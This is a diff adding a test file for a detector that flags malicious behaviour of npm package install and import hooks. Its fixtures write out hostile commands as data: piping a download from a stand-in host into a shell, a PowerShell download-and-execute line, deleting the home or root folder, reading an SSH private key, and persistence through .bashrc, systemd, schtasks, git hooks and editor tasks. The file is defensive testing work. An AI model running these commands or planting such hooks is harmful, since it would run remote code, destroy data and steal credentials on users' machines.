@@ -1,0 +1,115 @@
+import { expect, test } from "vitest";
+
+import type { TriggerDetonation } from "../detonation.ts";
+import type { Observation } from "../observation.ts";
+import { findBehaviours } from "./find-behaviours.ts";
+
+const places = {
+  home: "/home/ada",
+  temporaryFolder: "/tmp",
+  project: "/home/ada/work/app",
+  packageFolder: "/home/ada/work/app/node_modules/lib",
+};
+
+function tried(parts: Partial<Observation> & Pick<Observation, "kind" | "api">): Observation {
+  return { detail: parts.api, data: {}, decoded: false, honey: [], location: null, atMs: 0, ...parts };
+}
+
+function triggerWith(
+  observations: readonly Observation[],
+  kind: "install" | "import" = "install",
+): TriggerDetonation {
+  return {
+    trigger: { kind, name: "postinstall", starts: ["node setup.js"] },
+    worlds: [
+      {
+        name: "linux-laptop",
+        platform: "linux",
+        places,
+        observations,
+        coverage: 1,
+        ended: "rest",
+        problem: undefined,
+      },
+    ],
+    differences: [],
+  };
+}
+
+function idsOf(observation: Observation, kind?: "install" | "import"): readonly string[] {
+  return findBehaviours([triggerWith([observation], kind)]).map(({ id }) => id);
+}
+
+const file = (api: string, path: string, to?: string): Observation =>
+  tried({ kind: "file", api: `fs.${api}`, data: { path, ...(to === undefined ? {} : { to }) } });
+const process_ = (command: string, decoded = false): Observation =>
+  tried({ kind: "process", api: "child_process.exec", data: { command }, decoded });
+
+test.each<[string, Observation]>([
+  ["planted-secret-sent", tried({ kind: "network", api: "https.request", honey: ["npm-token"] })],
+  ["planted-secret-sent", tried({ kind: "dns", api: "dns.lookup", honey: ["aws-key"] })],
+  ["download-executed", process_("curl -s http://collector.invalid/a | sh")],
+  ["download-executed", process_('powershell -c "iex (iwr http://collector.invalid/a)"')],
+  ["files-destroyed", file("rm", "/home/ada")],
+  ["files-destroyed", file("rmSync", "/home/ada/Documents")],
+  ["files-destroyed", file("promises.rm", "/")],
+  ["package-published", process_("npm publish --access public")],
+  ["stays-installed", file("appendFile", "/home/ada/.bashrc")],
+  ["stays-installed", file("writeFile", "/home/ada/.config/systemd/user/a.service")],
+  ["stays-installed", process_("schtasks /create /tn a /tr b")],
+  ["tool-taken-over", file("writeFile", "/home/ada/work/app/.vscode/tasks.json")],
+  ["tool-taken-over", file("writeFile", "/home/ada/work/app/.git/hooks/pre-commit")],
+  ["tracks-covered", file("unlink", `${places.packageFolder}/setup.js`)],
+  [
+    "tracks-covered",
+    file("rename", `${places.packageFolder}/package.md`, `${places.packageFolder}/package.json`),
+  ],
+  ["hidden-command", process_("bash -c id", true)],
+  ["credentials-read", file("readFile", "/home/ada/.ssh/id_ed25519")],
+  [
+    "hidden-address",
+    tried({ kind: "network", api: "fetch", data: { url: "https://collector.invalid" }, decoded: true }),
+  ],
+])("findBehaviours() finds %s", (id, observation) => {
+  expect(idsOf(observation)).toContain(id);
+});
+
+test.each<[string, Observation]>([
+  [
+    "a download of a program",
+    tried({ kind: "network", api: "https.request", data: { url: "https://files.example/a.tgz" } }),
+  ],
+  ["reading npm's settings, as honest installers do", file("readFile", "/home/ada/.npmrc")],
+  ["writing into the package's own folder", file("writeFile", `${places.packageFolder}/bin/tool`)],
+  ["deleting temporary files", file("rm", "/tmp/lib-build")],
+  ["deleting a folder of the package", file("rm", `${places.packageFolder}/build`)],
+  ["deleting a cache below the home", file("rm", "/home/ada/.cache/lib")],
+  ["starting a compiler", process_("node-gyp rebuild")],
+  ["a shell whose command stands in the package", process_("sh -c 'echo built'")],
+  ["downloading to a file", process_("curl -o a.tgz https://files.example/a.tgz")],
+])("findBehaviours() finds nothing in %s", (_what, observation) => {
+  expect(idsOf(observation)).toEqual([]);
+});
+
+test("findBehaviours() takes the deletion of a file of its own for what covers tracks at install alone", () => {
+  const deletion = file("unlink", `${places.packageFolder}/setup.js`);
+
+  expect(idsOf(deletion, "import")).toEqual([]);
+});
+
+test("findBehaviours() names each kind once, with the worlds, the trigger and the first thing that was tried", () => {
+  const first = tried({
+    kind: "process",
+    api: "exec",
+    detail: "exec one",
+    data: { command: "sh -c one" },
+    decoded: true,
+  });
+  const second = { ...first, detail: "exec two" };
+
+  const found = findBehaviours([triggerWith([first, second])]);
+
+  expect(found).toHaveLength(1);
+  expect(found[0]).toMatchObject({ id: "hidden-command", excerpt: "exec one" });
+  expect(found[0]?.message).toContain("when it is installed (postinstall), on linux-laptop");
+});
